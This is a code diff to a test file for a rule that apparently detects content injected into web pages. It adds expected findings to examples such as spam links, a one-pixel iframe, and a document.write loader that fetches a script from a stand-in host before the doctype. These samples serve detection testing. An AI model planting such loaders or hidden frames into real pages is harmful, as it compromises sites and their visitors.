@@ -5,7 +5,7 @@ import { pageAddress, siteOf } from '../../facts/page-address.ts';
 import { moneyTerms } from '../../grounds/money-terms.ts';
 import { WELL_KNOWN_SITES } from '../../grounds/well-known-sites.ts';
 import type { Page } from '../../page/page.ts';
-import { EXAMPLE_URL, type Example, examplePage, paragraphs } from '../example.ts';
+import { EXAMPLE_URL, type Example, examplePage, found, paragraphs } from '../example.ts';
 import { type Quote, quoteAt, quoteWhole } from '../quote.ts';
 import { CLEAR, rule } from '../rule.ts';
 import { BREAD, CHLEB } from '../sample-prose.ts';
@@ -112,28 +112,46 @@ export default rule({
   },
   examples: () => ({
     hit: [
-      wrapped('links after the end', (html) => html + PLANTED),
-      wrapped('links before the doctype', (html) => PLANTED + html),
-      wrapped('a frame of one pixel', (html) =>
-        html.replace(
-          '</main>',
-          '</main><iframe src="https://stat-tracker7.example/in.php" width="1" height="1"></iframe>',
+      found(
+        wrapped('links after the end', (html) => html + PLANTED),
+        { says: ['after_document'], quotes: ['<div><a href="https://pills-24.example/">buy'] },
+      ),
+      found(
+        wrapped('links before the doctype', (html) => PLANTED + html),
+        { says: ['before_document'], quotes: ['<div><a href="https://pills-24.example/">buy'] },
+      ),
+      found(
+        wrapped('a frame of one pixel', (html) =>
+          html.replace(
+            '</main>',
+            '</main><iframe src="https://stat-tracker7.example/in.php" width="1" height="1"></iframe>',
+          ),
         ),
+        { says: ['invisible_frame'], quotes: ['https://stat-tracker7.example/in.php'] },
       ),
-      wrapped(
-        'code before the doctype that loads more',
-        (html) =>
-          `<script>var d="cdn-jq-update.example";document.write('<script src="https://'+d+'/x.js"><\\/script>');</script>${html}`,
+      found(
+        wrapped(
+          'code before the doctype that loads more',
+          (html) =>
+            `<script>var d="cdn-jq-update.example";document.write('<script src="https://'+d+'/x.js"><\\/script>');</script>${html}`,
+        ),
+        { says: ['before_document'], quotes: ['<script>var d="cdn-jq-update.example";document.wri'] },
       ),
-      wrapped(
-        'script file of a stranger after the end',
-        (html) => `${html}<script src="https://cdn-jq-update.example/x.js"></script>`,
+      found(
+        wrapped(
+          'script file of a stranger after the end',
+          (html) => `${html}<script src="https://cdn-jq-update.example/x.js"></script>`,
+        ),
+        { says: ['after_document'], quotes: ['<script src="https://cdn-jq-update.example/x.js"><'] },
       ),
-      wrapped(
-        'Polish, text after the end',
-        (html) =>
-          `${html}<p>Chwilówki bez BIK i kasyno online z bonusem, szybkie pożyczki przez internet, tanie tabletki na potencję, legalne sterydy i zakłady bukmacherskie.</p>`,
-        'pl',
+      found(
+        wrapped(
+          'Polish, text after the end',
+          (html) =>
+            `${html}<p>Chwilówki bez BIK i kasyno online z bonusem, szybkie pożyczki przez internet, tanie tabletki na potencję, legalne sterydy i zakłady bukmacherskie.</p>`,
+          'pl',
+        ),
+        { says: ['after_document'], quotes: ['<p>Chwilówki bez BIK i kasyno online z bonusem,'] },
       ),
     ],
     clear: [
